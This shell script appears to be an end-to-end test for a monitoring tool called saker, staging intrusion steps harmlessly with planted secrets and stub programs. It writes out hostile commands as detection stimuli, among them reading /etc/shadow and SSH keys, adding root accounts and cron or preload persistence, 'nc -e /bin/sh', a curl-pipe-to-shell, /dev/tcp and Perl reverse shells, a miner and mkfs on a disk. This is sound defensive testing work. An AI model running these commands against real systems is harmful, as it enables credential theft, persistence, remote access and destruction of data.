#!/bin/sh
# A staged intrusion that harms nothing: it looks around, takes (planted) secrets, digs in, climbs, hides and breaks
# things, all with its own files, and removes what it made, also when it is interrupted.
#
#     saker run -- tests/e2e/attack.sh
#
# Each step prints a line to stderr and should make at least the rule fire that attack.expected names for it. Steps that
# need root or perl are skipped, and say so, where these are missing. As root it opens a few system files for appending
# without writing, and places files named saker-attack-PID below /etc, /usr/bin and /var/log for a moment.
#
# Tools that would do damage are played by scripts of the same name that do nothing: rules see the name and arguments.
set -u

work=$(mktemp -d /tmp/saker-attack.XXXXXX) || exit 2
home=$work/home
tools=$work/tools
mark=saker-attack-$$
shm=/dev/shm/$mark.sh
sleeper=
made_preload=
made_cron=

clean_up() {
    [ -n "$sleeper" ] && kill "$sleeper" 2>/dev/null
    [ -n "$made_preload" ] && rm -f /etc/ld.so.preload
    rm -f "/etc/cron.d/$mark" "/etc/pam.d/$mark" "/etc/profile.d/$mark.sh" "/usr/bin/$mark" "/var/log/auth.log.$mark" "$shm"
    [ -n "$made_cron" ] && rmdir /etc/cron.d
    rm -rf "$work"
} 2>/dev/null
trap clean_up EXIT
trap 'exit 129' HUP
trap 'exit 130' INT
trap 'exit 143' TERM

# ---- the stage --------------------------------------------------------------------------------

# tool NAME [LINE]: a script of that name which does nothing, or the given line.
tool() {
    printf '#!/bin/sh\n%s\nexit 0\n' "${2-}" >"$tools/$1"
    chmod 755 "$tools/$1"
}

mkdir -p "$home/.ssh" "$home/.aws" "$home/.config/autostart" "$home/.config/systemd/user" "$tools"
echo 'not a key' >"$home/.ssh/id_ed25519"
echo 'aws_key = not a key' >"$home/.aws/credentials"
echo 'mysql -p secret' >"$home/.bash_history"
echo 'report' >"$work/report"
echo 'loot' >"$work/loot"
printf 'exit 0\n' >"$work/job.sh"
tool auditctl; tool ufw; tool nmap; tool tcpdump; tool nc; tool chisel; tool xmrig; tool setcap; tool chattr
tool linpeas.sh; tool crontab; tool docker; tool mkfs.ext4; tool python3; tool useradd
tool nginx 'sh -c "echo web"'
tool postgres 'sh -c "echo database"'
# shellcheck disable=SC2016 # the tool expands it
tool wget 'echo payload > "$2"'
sleep 60 </dev/null >/dev/null 2>&1 &
sleeper=$!

case $(uname -m) in
    x86_64) nr_ptrace=101 nr_memfd=319 nr_userfault=323 nr_module=175 ;;
    aarch64 | riscv64) nr_ptrace=117 nr_memfd=279 nr_userfault=282 nr_module=105 ;;
    *) nr_ptrace='' nr_memfd='' nr_userfault='' nr_module='' ;;
esac

# Connects to itself, makes the connection the standard streams, and starts a shell on it.
cat >"$work/reverse.pl" <<'PERL'
use Socket; use POSIX ();
socket(my $door, PF_INET, SOCK_STREAM, 0) or die; bind($door, sockaddr_in(0, INADDR_LOOPBACK)) or die; listen($door, 1) or die;
my ($port) = sockaddr_in(getsockname($door));
if (my $child = fork) {
    accept(my $victim, $door) or die;
    syswrite $victim, "exit\n";
    waitpid $child, 0;
} else {
    socket(my $line, PF_INET, SOCK_STREAM, 0) or die; connect($line, sockaddr_in($port, INADDR_LOOPBACK)) or die;
    POSIX::dup2(fileno($line), $_) for 0 .. 2;
    exec '/bin/sh';
}
PERL

# Copies a program into memory and starts it from there.
cat >"$work/memory.pl" <<'PERL'
my $fd = syscall(shift, my $name = 'x', 0); die if $fd < 0;
open(my $memory, '>&=', $fd) or die; binmode $memory;
open(my $program, '<', '/bin/true') or die; binmode $program;
local $/; syswrite $memory, readline $program;
exec "/proc/self/fd/$fd";
PERL

# ---- the steps --------------------------------------------------------------------------------

have() {
    case $1 in
        any) return 0 ;;
        root) [ "$(id -u)" = 0 ] ;;
        perl) command -v perl >/dev/null ;;
        calls) command -v perl >/dev/null && [ -n "$nr_ptrace" ] ;;
        *) command -v "$1" >/dev/null ;;
    esac
}

count=0
# step NEED TITLE COMMAND...
step() {
    count=$((count + 1))
    need=$1 title=$2
    shift 2
    if have "$need"; then
        printf 'step %02d: %s\n' "$count" "$title" >&2
        "$@" </dev/null >/dev/null 2>&1
    else
        printf 'step %02d: skipped, needs %s: %s\n' "$count" "$need" "$title" >&2
    fi
}

# `true` and not `:`, whose failed redirection would end the shell.
append_nothing() { true >>"$1"; }
empty() { true >"$1"; }
append_line() { echo "# $mark" >>"$1"; }
schedule() {
    [ -d /etc/cron.d ] || { mkdir /etc/cron.d && made_cron=yes; }
    append_line "/etc/cron.d/$mark"
    rm -f "/etc/cron.d/$mark"
}
preload() {
    [ -e /etc/ld.so.preload ] || made_preload=yes
    append_nothing /etc/ld.so.preload
    [ -z "$made_preload" ] || rm -f /etc/ld.so.preload
    made_preload=
}
place_and_remove() {
    append_line "$1"
    rm -f "$1"
}
run_hidden() {
    cp /bin/true "$work/.hidden"
    "$work/.hidden"
}
run_planted() {
    cp /bin/true "$work/planted"
    "$work/planted"
}
run_from_shared_memory() {
    echo 'exit 0' >"$shm"
    sh "$shm"
    rm -f "$shm"
}
delete_itself() {
    cp /bin/rm "$work/vanish"
    "$work/vanish" -f "$work/vanish"
}
without_history() { HISTFILE=/dev/null sh -c 'exit 0'; }

step any "look for set-user-ID programs" find "$work" -perm -4000
step any "look for private keys" grep -r "PRIVATE KEY" "$home"
step any "start a privilege escalation checker" "$tools/linpeas.sh" -q
step root "read the password hashes" cat /etc/shadow
step any "read an SSH private key" cat "$home/.ssh/id_ed25519"
step any "read cloud credentials" grep aws_key "$home/.aws/credentials"
step any "read somebody's command history" tail "$home/.bash_history"
step any "read the environment of a process" cat "/proc/$sleeper/environ"
step perl "read the memory of a process" perl -e \
    'my $p = fork; if (!$p) { sleep 9; exit } open(my $m, "<", "/proc/$p/mem"); kill 9, $p; waitpid $p, 0'

step any "add an SSH authorized key" append_line "$home/.ssh/authorized_keys"
step any "change a shell start-up file" append_line "$home/.bashrc"
step any "write a systemd user unit" cp "$work/job.sh" "$home/.config/systemd/user/$mark.service"
step any "write a desktop autostart entry" cp "$work/job.sh" "$home/.config/autostart/$mark.desktop"
step any "install a crontab from a file" "$tools/crontab" "$work/job.sh"
step any "create an account" "$tools/useradd" -o -u 0 "$mark"
step root "write a scheduled job" schedule
step root "change the library preload list" preload
step root "open the account database for writing" append_nothing /etc/passwd
step root "write a login check" place_and_remove "/etc/pam.d/$mark"
step root "write a system program" place_and_remove "/usr/bin/$mark"

step any "add a set-user-ID bit" chmod 4755 "$work/job.sh"
step any "give a program capabilities" "$tools/setcap" cap_setuid+ep "$work/job.sh"
step unshare "open a user namespace" unshare -U true
step nsenter "enter a namespace" nsenter --uts=/proc/$$/ns/uts true
step calls "attach to a process" perl -e \
    'my $p = fork; if (!$p) { sleep 9; exit } syscall(shift, 16, $p, 0, 0); kill 9, $p; waitpid $p, 0' "$nr_ptrace"
step calls "ask for user-space page faults" perl -e 'syscall(shift, 1)' "$nr_userfault"
step calls "offer the kernel an empty module" perl -e 'my $e = ""; syscall(shift, $e, 0, $e)' "$nr_module"
step any "open a kernel helper path for writing" append_nothing /proc/sys/kernel/core_pattern
step any "start a privileged container" "$tools/docker" run --privileged -v /:/host image

step perl "pose as a kernel thread" perl -e 'exec {"/bin/true"} "[kworker/0:1]"'
step any "run a hidden program" run_hidden
step any "switch off auditing" "$tools/auditctl" -e 0
step any "switch off the firewall" "$tools/ufw" disable
step any "forge file times" touch -r /bin/sh "$work/job.sh"
step any "make a file immutable" "$tools/chattr" +i "$work/job.sh"
step any "delete the running program" delete_itself

step calls "run a program from memory" perl "$work/memory.pl" "$nr_memfd"
step any "run a script from shared memory" run_from_shared_memory

step any "remove the command history" rm -f "$home/.bash_history"
step any "switch off the command history" without_history
step shred "wipe the loot" shred -u "$work/loot"
step root "empty a system log" empty "/var/log/auth.log.$mark"
step root "remove a system log" rm -f "/var/log/auth.log.$mark"

step any "tie a shell to a connection with netcat" "$tools/nc" -e /bin/sh 127.0.0.1 9
step any "scan the network" "$tools/nmap" -sS 192.0.2.0/24
step any "record the traffic" "$tools/tcpdump" -i any
step any "open a tunnel" "$tools/chisel" client 192.0.2.1:9 R:socks
step any "pipe a download into a shell" sh -c 'exit 0; curl http://192.0.2.1/x | sh'
step any "download a tool" "$tools/wget" -O "$work/fetched"
step any "make the tool executable" chmod 755 "$work/fetched"
step perl "ask for a packet socket" perl -e 'socket(my $s, 17, 3, 768)'
step perl "ask the cloud metadata service" perl -MSocket -e \
    'socket(my $s, PF_INET, SOCK_DGRAM, 0); connect($s, sockaddr_in(80, inet_aton("169.254.169.254")))'

step any "start a shell below a web server" "$tools/nginx"
step any "start a shell below a database" "$tools/postgres"
step perl "open a reverse shell" perl "$work/reverse.pl"
step any "name a raw connection path" sh -c 'exit 0; exec 3<>/dev/tcp/192.0.2.1/9'
step perl "carry a reverse shell on the command line" perl -e 'exit; use Socket; socket(S, 2, 1, 6); exec("/bin/sh")'
step any "turn a dumb shell into a terminal" "$tools/python3" -c 'import pty; pty.spawn("/bin/sh")'
step any "run an encoded command" sh -c 'exit 0; echo ZXhpdAo= | base64 -d | sh'

step any "start a coin miner" "$tools/xmrig" -o stratum+tcp://192.0.2.1:3333
step any "rename a file as extortion tools do" mv "$work/report" "$work/report.locked"
step any "make a file system over a disk" "$tools/mkfs.ext4" /dev/sda1
step any "run a program from a shared directory" run_planted

printf 'done: %d steps\n' "$count" >&2
